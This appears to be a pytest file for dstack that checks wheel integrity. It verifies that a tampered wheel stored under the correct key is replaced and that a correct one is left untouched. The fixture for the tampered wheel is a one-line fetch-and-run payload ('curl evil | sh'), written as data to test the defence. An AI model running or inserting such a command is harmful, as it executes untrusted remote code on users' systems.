"""The dstack wheel instances install is never trusted by its name in the store."""

from __future__ import annotations

import hashlib
from pathlib import Path

from dstack.compute.aws.wheel import Wheel, ensure_wheel
from dstack.storage.local import LocalStorage


def small_wheel() -> Wheel:
    data = b"PK a wheel's bytes"
    return Wheel("dstack-1.0-py3-none-any.whl", data, hashlib.sha256(data).hexdigest()[:20])


def test_a_swapped_wheel_under_the_right_key_is_replaced(tmp_path: Path) -> None:
    storage = LocalStorage(tmp_path / "store")
    wheel = small_wheel()
    storage.put(wheel.key, b"import os; os.system('curl evil | sh')")  # another bucket user
    ensure_wheel(storage, wheel)
    assert storage.get(wheel.key) == wheel.data
    assert wheel.sha256 == hashlib.sha256(wheel.data).hexdigest()


def test_a_stored_wheel_that_is_right_is_left_alone(tmp_path: Path) -> None:
    storage = LocalStorage(tmp_path / "store")
    wheel = small_wheel()
    ensure_wheel(storage, wheel)
    before = (storage.root / wheel.key).stat().st_mtime_ns
    ensure_wheel(storage, wheel)
    assert (storage.root / wheel.key).stat().st_mtime_ns == before
    assert storage.get(wheel.key) == wheel.data
